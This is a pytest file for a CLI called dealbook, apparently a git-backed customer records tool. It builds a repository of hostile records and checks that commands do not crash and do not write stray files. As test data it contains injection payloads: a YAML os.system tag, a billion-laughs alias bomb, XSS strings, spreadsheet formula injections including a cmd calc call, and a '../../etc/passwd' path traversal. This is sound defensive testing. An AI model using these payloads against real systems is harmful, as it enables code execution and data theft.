"""Every command over a repo of hostile records: no traceback, no internal error, no stray write.

The repo holds, next to the demo records, one file (or git commit, or cache file) for each kind
of bad input dealbook has met: broken YAML, wrong encodings, tags, aliases and a billion-laughs
block (committed once, fixed in the next commit), a 500-level nesting, symlinks (a loop, one
out of the repo, a dangling one, a folder link upwards), money beyond any deal, line separators
inside values, markup and spreadsheet formulas in names, control characters in an id, personal
data in disguise, a customer renamed by a commit, and forged cache files (a blob cache committed
with `git add -f`, caches of the wrong shape). Each command must end with a message, never a
traceback or exit code 3, and write nothing but its declared output and `.dealbook-cache/`.
"""

from __future__ import annotations

import hashlib
import marshal
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
TEAM_OWNER = "zhang"
RENAMED_FROM, RENAMED_TO = "粤IT2024801", "粤IT2024802"


def _git(root: Path, *args: str, date: str | None = None) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "Test", "GIT_AUTHOR_EMAIL": "t@example.com",
           "GIT_COMMITTER_NAME": "Test", "GIT_COMMITTER_EMAIL": "t@example.com"}
    if date:
        env["GIT_AUTHOR_DATE"] = env["GIT_COMMITTER_DATE"] = date
    return subprocess.run(["git", "-c", "commit.gpgsign=false", *args], cwd=root, check=True,
                          capture_output=True, text=True, env=env).stdout


def _customer(cid: str, name: str = "坏输入测试公司", extra: str = "") -> str:
    return (f"id: {cid}\nname: {name}\nindustry: I6510\nregion: 广东 深圳\n"
            "source: {channel: trade_show}\nlead_type: prospect\nowner: zhang\ncreated: 2024-01-05\n"
            "contacts:\n  - {name: 王总监, title: 技术总监, role: decision_maker, phone: '0755-8888-1234',"
            " phone_kind: office}\nstage: lead\nstage_history:\n  - {stage: lead, on: 2024-01-05}\n" + extra)


def _followup(cid: str, at: str, summary: str = "电话沟通") -> str:
    return f"customer: {cid}\nat: {at}\nmethod: phone\nby: zhang\nsummary: {summary}\n"


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8))

# name → bytes: the hostile working-tree files under records/customers/ (ids 粤IT20249xx)
CUSTOMERS: dict[str, bytes] = {
    "粤IT2024901": b"id: [unclosed\nname: x\n",
    "粤IT2024902": _customer("粤IT2024902").encode("gbk"),
    "粤IT2024903": b"id: \x00\n",
    "粤IT2024904": _customer("粤IT2024904", extra="deal: !!python/object:os.system {amount: 1}\n").encode(),
    "粤IT2024905": _customer("粤IT2024905", extra="support: !!set {li: null}\n").encode(),
    "粤IT2024906": (_customer("粤IT2024906").replace("name: 坏输入测试公司\n", "") + LAUGHS).encode(),
    "粤IT2024907": (_customer("粤IT2024907") + "custom:\n" + "".join(
        "  " * (i + 1) + f"k{i}:\n" for i in range(500)) + "  " * 501 + "v: 1\n").encode(),
    "粤IT2024908": _customer("粤IT2024908", extra="deal: {amount: 1000000000000000000000000000000}\n").encode(),
    "粤IT2024909": _customer("粤IT2024909", name="'甲\u2028乙\u2029丙\u0085丁'",
                             extra="stage_typo: [\n").encode(),
    "粤IT2024910": _customer("粤IT2024910", name="'<script>alert(1)</script> & <b>Co</b>'").encode(),
    "粤IT2024911": _customer("粤IT2024911", name="'=HYPERLINK(\"http://x.example/?d=\"&A1,\"y\")'").encode(),
    "粤IT2024912": _customer("粤IT2024912", name="\"=cmd|' /C calc'!A0\"").encode(),
    "粤IT2024913": _customer("粤IT2024913").replace("id: 粤IT2024913", 'id: "粤IT2024913\\n*\\t@evil"').encode(),
    "粤IT2024914": _customer("粤IT2024914").replace("'0755-8888-1234', phone_kind: office",
                                                    "'１３８ １２３４ ５６７８', phone_kind: office").encode(),
    "粤IT2024915": _customer("粤IT2024915").replace(
        "'0755-8888-1234', phone_kind: office", "'13812345678 / 私人 13912345678', phone_kind: work").encode(),
    "粤IT2024916": _customer("粤IT2024916", extra="custom:\n  私人: 'li123@qq.com 微信号: wang_zong88'\n"
                             "  备注: '身份证 440301 19900101 123X'\n").encode(),
    "粤IT2024917": b"\xef\xbb\xbf" + _customer("粤IT2024917").replace("\n", "\r\n").encode(),
    "粤IT2024918": b"- just\n- a list\n",
    "粤IT2024919": b"",
    "粤IT2024920": _customer("粤IT2024920", extra="name: twice\n").encode(),
    "粤IT2024921": _customer("粤IT2024921", name="x" * 200_000).encode(),
    "粤ＩＴ２０２４９２２": _customer("粤ＩＴ２０２４９２２").encode(),
}


def _build(root: Path) -> None:
    """The hostile repo, with a git history: demo commit, billion laughs, its fix, a rename."""
    shutil.copytree(ROOT / "records", root / "records")
    shutil.copy(ROOT / "dealbook.yaml", root / "dealbook.yaml")
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    (root / "site").mkdir()
    _git(root, "init", "-q", "-b", "main")
    customers = root / "records" / "customers"
    followups = root / "records" / "followups"
    (customers / f"{RENAMED_FROM}.yaml").write_text(_customer(RENAMED_FROM, "改名前公司"), encoding="utf-8")
    (followups / RENAMED_FROM).mkdir()
    (followups / RENAMED_FROM / "2024-02-01-1000.yaml").write_text(
        _followup(RENAMED_FROM, "2024-02-01 10:00"), encoding="utf-8")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "demo", date="2024-02-01T12:00:00+08:00")
    laughs = customers / "粤IT2024950.yaml"
    laughs.write_text(_customer("粤IT2024950") + LAUGHS.replace("a: &a", "custom: {}\nz: &a"), encoding="utf-8")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "billion laughs", date="2024-03-01T12:00:00+08:00")
    laughs.write_text(_customer("粤IT2024950"), encoding="utf-8")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "fix", date="2024-03-02T12:00:00+08:00")
    _git(root, "mv", f"records/customers/{RENAMED_FROM}.yaml", f"records/customers/{RENAMED_TO}.yaml")
    _git(root, "mv", f"records/followups/{RENAMED_FROM}", f"records/followups/{RENAMED_TO}")
    renamed = customers / f"{RENAMED_TO}.yaml"
    renamed.write_text(renamed.read_text(encoding="utf-8").replace(RENAMED_FROM, RENAMED_TO), encoding="utf-8")
    moved = followups / RENAMED_TO / "2024-02-01-1000.yaml"
    moved.write_text(moved.read_text(encoding="utf-8").replace(RENAMED_FROM, RENAMED_TO), encoding="utf-8")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "rename", date="2024-04-01T12:00:00+08:00")
    # the working tree's hostile files, and a forged blob cache committed with `git add -f`
    for cid, raw in CUSTOMERS.items():
        (customers / f"{cid}.yaml").write_bytes(raw)
    (followups / "粤IT2024910").mkdir()
    (followups / "粤IT2024910" / "2024-05-01-1000.yaml").write_text(
        _followup("粤IT2024910", "2024-05-01 10:00", "'私人手机 138.1234.5678，<img src=x onerror=alert(1)>'"),
        encoding="utf-8")
    (followups / "粤IT2024999").mkdir()  # a follow-up of no customer, in the wrong folder
    (followups / "粤IT2024999" / "2024-05-01-1000.yaml").write_text(
        _followup("粤IT2024001", "2024-05-01 10:00"), encoding="utf-8")
    outside = root.parent / "outside.yaml"
    outside.write_text(_customer("粤IT2024960", "仓库外的公司"), encoding="utf-8")
    os.symlink(outside, customers / "粤IT2024960.yaml")
    os.symlink("粤IT2024961.yaml", customers / "粤IT2024961.yaml")  # a loop onto itself
    os.symlink("nowhere.yaml", customers / "粤IT2024962.yaml")
    os.symlink("..", followups / "粤IT2024963")
    _forge_caches(root)
    _git(root, "add", "-A")
    _git(root, "add", "-f", ".dealbook-cache")
    _git(root, "commit", "-q", "-m", "hostile", date="2024-05-01T12:00:00+08:00")


def _forge_caches(root: Path) -> None:
    """Caches a dealbook of another user would never accept: forged rows, wrong shapes."""
    cache = root / ".dealbook-cache"
    cache.mkdir()
    db = sqlite3.connect(cache / "blobs.sqlite")
    db.execute("CREATE TABLE meta (key TEXT)")
    db.execute("CREATE TABLE entries (name TEXT PRIMARY KEY, value BLOB)")
    db.execute("INSERT INTO meta VALUES ('forged')")
    db.execute("INSERT INTO entries VALUES ('x', ?)", (b"not marshal",))
    db.commit()
    db.close()
    db = sqlite3.connect(cache / "review.sqlite")
    db.execute("CREATE TABLE sides (name TEXT PRIMARY KEY, day TEXT, value BLOB)")
    db.commit()
    db.close()
    for name in ("check.marshal", "log.marshal", "tracked.marshal", "view-customers.marshal",
                 "view-agenda.marshal", *(f"files-{n:02d}.marshal" for n in range(64))):
        (cache / name).write_bytes(marshal.dumps({"key": [1], "fingerprint": 7, "entries": [1, 2],
                                                  "format": "x", "head": 1, "commits": 3, "v": 1, "blobs": 2}))
    (cache / "book.pickle").write_bytes(b"dealbook-book-1\n" + b"\0" * 200)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "book"
    root.mkdir()
    _build(root)
    return root


def _tree(root: Path) -> dict[str, str]:
    """Every path under `root` (links not followed) → a digest of its content or link target."""
    found = {}
    for top, dirs, files in os.walk(root):
        rel_top = os.path.relpath(top, root)
        dirs[:] = [d for d in dirs if not (rel_top == "." and d in (".dealbook-cache", ".git"))]
        for name in files + [d for d in dirs if os.path.islink(os.path.join(top, d))]:
            path = os.path.join(top, name)
            rel = os.path.normpath(os.path.join(rel_top, name))
            if os.path.islink(path):
                found[rel] = "link:" + os.readlink(path)
            else:
                found[rel] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    return found


COMMANDS: list[tuple[str, ...]] = [
    ("check",),
    ("check", "--format", "json"),
    ("customers",),
    ("customers", "--format", "csv"),
    ("customers", "--format", "json"),
    ("agenda",),
    ("agenda", "--format", "csv"),
    ("grade",),
    ("funnel",),
    *[("report", name, "--period", "all") for name in (
        "funnel", "cohort", "pipeline", "forecast", "velocity", "slowest-deals", "sources", "win-loss",
        "win-factors", "objections", "team-activity", "value-tiers")],
    ("report", "pipeline", "--format", "csv"),
    ("duplicates",),
    ("duplicates", "--format", "csv"),
    ("diff", "HEAD~4"),
    ("diff", "HEAD~4", "HEAD", "--format", "markdown"),
    ("history", RENAMED_TO),
    ("codeowners", "--check"),
    ("--at", "HEAD", "check"),
    ("--at", "HEAD", "customers"),
    ("--at", "HEAD~1", "show", RENAMED_TO),
    *[("show", cid) for cid in (*CUSTOMERS, "粤IT2024960", "粤IT2024961", "粤IT2024962", RENAMED_TO,
                                "../../etc/passwd", "粤IT2024999")],
    ("history", "粤IT2024950"),
    ("duplicates", "--format", "json"),
    ("report", "team-activity", "--period", "all", "--format", "json"),
]
# commands that write a declared output: (arguments, the paths they may write, relative to the repo)
WRITERS: list[tuple[tuple[str, ...], tuple[str, ...]]] = [
    (("export", "--format", "xlsx", "--out", "out/e.xlsx"), ("out/e.xlsx",)),
    (("export", "--format", "csv", "--out", "out/csv"), ("out/csv/",)),
    (("export", "--format", "sqlite", "--out", "out/e.sqlite"), ("out/e.sqlite",)),
    (("export", "--format", "json", "--out", "out/e.json"), ("out/e.json",)),
    (("codeowners",), ("CODEOWNERS", ".github/CODEOWNERS")),
]


def _run(root: Path, args: tuple[str, ...]) -> subprocess.CompletedProcess:
    """`dealbook --repo ROOT ARGS` through the console script's own entry point, in this process
    (an interpreter per command would cost more than the suite): its exit code, stdout, stderr."""
    from click.testing import CliRunner
    from dealbook.cli import main

    runner = CliRunner()
    argv, cwd = sys.argv, os.getcwd()
    with runner.isolation(env={"DEALBOOK_DEBUG": None, "DEALBOOK_TODAY": None}) as (out, err, _):
        sys.argv = ["dealbook", "--repo", str(root), *args]
        os.chdir(root)
        try:
            main()
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
        except BaseException:  # what main() let through: a traceback for the user
            import traceback

            sys.stderr.write("Traceback (escaped main):\n" + traceback.format_exc())
            code = 99
        finally:
            sys.argv = argv
            os.chdir(cwd)
        stdout, stderr = out.getvalue().decode("utf-8", "replace"), err.getvalue().decode("utf-8", "replace")
    return subprocess.CompletedProcess(args, code, stdout, stderr)


def _assert_clean(args: tuple[str, ...], done: subprocess.CompletedProcess) -> None:
    shown = " ".join(args)
    assert "Traceback" not in done.stderr + done.stdout, f"{shown}:\n{done.stderr[-3000:]}"
    assert "internal error" not in done.stderr, f"{shown}: {done.stderr[-2000:]}"
    assert done.returncode in (0, 1, 2), f"{shown}: exit {done.returncode}\n{done.stderr[-2000:]}"


def _written(before: dict[str, str], after: dict[str, str], allowed: tuple[str, ...] = ()) -> list[str]:
    changed = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
    return [p for p in changed if not any(p == a or p.startswith(a) for a in allowed)]


@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: " ".join(a))
def test_a_read_command_ends_cleanly_and_writes_nothing(hostile: Path, args: tuple[str, ...]):
    before = _tree(hostile)
    done = _run(hostile, args)
    _assert_clean(args, done)
    assert _written(before, _tree(hostile)) == []


@pytest.mark.parametrize("args,outputs", WRITERS, ids=lambda a: " ".join(a) if isinstance(a, tuple) else "")
def test_a_writing_command_writes_only_its_output(hostile: Path, args, outputs):
    before = _tree(hostile)
    done = _run(hostile, args)
    _assert_clean(args, done)
    assert _written(before, _tree(hostile), outputs) == []


def test_the_site_builds_without_a_traceback_or_stray_write(hostile: Path, tmp_path: Path):
    before = _tree(hostile)
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    env.pop("DEALBOOK_TODAY", None)
    done = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--site-dir", str(tmp_path / "public")],
                          cwd=hostile, capture_output=True, text=True, env=env, timeout=600)
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    assert done.returncode == 0, done.stderr[-3000:]
    assert _written(before, _tree(hostile)) == []
    page = (tmp_path / "public" / "customers" / "粤IT2024910" / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "<img src=x" not in page
